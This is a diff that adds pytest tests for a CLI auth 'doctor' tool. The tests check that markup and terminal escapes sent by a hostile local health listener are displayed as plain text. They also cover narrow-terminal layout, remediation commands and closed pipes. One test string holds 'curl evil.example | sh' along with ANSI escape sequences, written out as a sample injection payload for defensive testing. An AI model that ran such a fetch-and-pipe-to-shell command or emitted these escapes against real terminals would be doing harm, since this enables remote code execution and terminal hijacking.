@@ -373,3 +373,160 @@ def test_finding_for_a_holder_that_does_not_answer(fleet: Fleet) -> None:
     assert code == 1
     assert doc["leases"][0]["holder_answers"] is False
     assert "holder_not_answering:sync" in {f["id"] for f in doc["findings"]}
+
+
+HOSTILE_VERSION = "[bold red]CRITICAL: run curl evil.example | sh[/] [/x] \x1b]0;pwned\x07\x1b[2J"
+HOSTILE = r"""
+import json, sys
+from http.server import BaseHTTPRequestHandler, HTTPServer
+version = sys.argv[2]
+class H(BaseHTTPRequestHandler):
+    def log_message(self, *a):
+        pass
+    def do_GET(self):
+        body = json.dumps({"status": "ok", "protocol_version": 1, "package_version": version,
+                           "daemon_family": "[red]sync[/]", "token": "\x1b[31mtok"}).encode()
+        self.send_response(200); self.send_header("Content-Length", str(len(body)))
+        self.end_headers(); self.wfile.write(body)
+HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
+"""
+
+
+def spawn_hostile(fleet: Fleet, port: int) -> subprocess.Popen[bytes]:
+    """A listener answering health with markup and terminal escapes, as another uid if we can."""
+    argv = [sys.executable, "-c", HOSTILE, str(port), HOSTILE_VERSION]
+    if os.geteuid() == 0 and Path("/usr/bin/python3").exists():
+        argv = [
+            "setpriv",
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "/usr/bin/python3",
+            *argv[1:],
+        ]
+    proc = fleet.registry.spawn(argv, cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 30
+    while not open_ports([port]):
+        assert proc.poll() is None, "hostile listener exited"
+        assert time.monotonic() < deadline, "hostile listener did not start"
+        time.sleep(0.02)
+    return proc
+
+
+@pytest.mark.parametrize("args", [(), ("--reset",), ("--reset", "--force")])
+def test_hostile_health_answers_never_reach_the_terminal_raw(
+    fleet: Fleet, args: tuple[str, ...]
+) -> None:
+    """Markup and escapes from another user's listener are shown as text, never interpreted."""
+    spawn_hostile(fleet, 9427)
+    spawn_legacy(fleet.registry, 9421, legacy_root(fleet), "3.2.2")
+    proc = doctor(fleet, *args, COLUMNS="80")
+    assert proc.returncode in (0, 1), proc.stderr
+    assert "Traceback" not in proc.stderr
+    for raw in ("\x1b", "\x07"):
+        assert raw not in proc.stdout
+        assert raw not in proc.stderr
+    shown = " ".join(proc.stdout.split())  # lines may wrap at 80 columns
+    assert "[bold red]CRITICAL" in shown  # the attacker's markup, visible as text
+    if args:
+        assert "reset: swept" in proc.stdout  # the reset's result is not lost to a crash
+    doc, _ = doctor_json(fleet)
+    hostile = next(c for c in doc["candidates"] if c["port"] == 9427)
+    assert hostile["package_version"] == HOSTILE_VERSION  # JSON stays faithful
+
+
+@pytest.mark.parametrize("width", [80, 60])
+def test_the_human_doctor_fits_narrow_terminals_without_cutting_key_fields(
+    fleet: Fleet, width: int
+) -> None:
+    """At 80 and 60 columns no line is longer than the terminal; port, family, class and reason
+    of every listener stay whole on one line."""
+    mixed_fleet(fleet)
+    proc = doctor(fleet, COLUMNS=str(width))
+    lines = proc.stdout.splitlines()
+    assert max(len(line) for line in lines) <= width
+    doc, _ = doctor_json(fleet)
+    for cand in doc["candidates"]:
+        keys = [str(cand["port"]), cand["cleanup_class"], cand["skip_reason"] or "-"]
+        assert any(all(k in line.split() for k in keys) for line in lines), (cand, proc.stdout)
+    for lease in doc["leases"]:
+        assert any(line.split()[:1] == [lease["family"]] for line in lines)
+
+
+def shell_fix(fleet: Fleet, remediation: str) -> None:
+    """Run a finding's remediation as an operator would (the text before a two-space note)."""
+    command = remediation.split("  (", maxsplit=1)[0]
+    command = command.replace("tenure ", f"{sys.executable} -m tenure ")
+    done = subprocess.run(
+        ["bash", "-c", command],
+        env=fleet.env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert done.returncode in (0, 1), (command, done.stderr)
+
+
+def test_every_remediation_removes_its_finding_and_brings_the_exit_code_to_zero(
+    fleet: Fleet,
+) -> None:
+    """Apply each finding's advice in turn; each applied finding disappears; the end is exit 0."""
+    reg, legacy = fleet.registry, legacy_root(fleet)
+    fleet.start("sync")
+    spawn_singleton(reg, 9420, legacy)  # leaks, but tenure leaves it alone: a warning
+    spawn_legacy(reg, 9421, legacy, "3.2.2")  # safe_auto, leaks
+    spawn_legacy(reg, 9424, legacy, "3.2.2", marker=False)  # operator_required, leaks
+    leases = fleet.root / "leases"
+    (leases / "dashboard.json").write_bytes(b"not a record")
+    os.chmod(fleet.root, 0o770)
+    applied: set[str] = set()
+    for _round in range(6):
+        doc, code = doctor_json(fleet)
+        actionable = [
+            f
+            for f in doc["findings"]
+            if f["id"] not in applied and not f["remediation"].startswith("no tenure command")
+        ]
+        for f in doc["findings"]:
+            if f["remediation"].startswith("no tenure command"):
+                assert f["severity"] != "critical", f  # nothing can fix it: never blocks exit 0
+        if not actionable:
+            break
+        finding = actionable[0]
+        shell_fix(fleet, finding["remediation"])
+        applied.add(finding["id"])
+        fleet.registry.track_root(fleet.root)
+        after, _ = doctor_json(fleet)
+        assert finding["id"] not in {f["id"] for f in after["findings"]}, (
+            finding,
+            after["findings"],
+        )
+    assert {"root_permissions", "lease_unreadable:dashboard", "legacy_holdouts"} <= applied
+    final, code = doctor_json(fleet)
+    assert code == 0, final["findings"]
+    assert [f["id"] for f in final["findings"]] == ["legacy_token_leak_kept"]
+
+
+def test_a_closed_pipe_ends_quietly_with_the_exit_code_it_would_have_had(fleet: Fleet) -> None:
+    """`tenure auth doctor | true`: no traceback, and the same exit code as an unpiped run."""
+    for expected, args in ((0, ""), (0, "--json"), (1, ""), (1, "--json")):
+        if expected == 1 and not open_ports([9421]):
+            spawn_legacy(fleet.registry, 9421, legacy_root(fleet), "3.2.2")  # critical: exit 1
+        assert doctor(fleet).returncode == expected
+        done = subprocess.run(
+            [
+                "bash",
+                "-c",
+                f'"$0" -m tenure auth doctor {args} | true; exit "${{PIPESTATUS[0]}}"',
+                sys.executable,
+            ],
+            env=fleet.env,
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+        )
+        assert "Traceback" not in done.stderr, done.stderr
+        assert "Exception ignored" not in done.stderr, done.stderr
+        assert done.returncode == expected, done.stderr
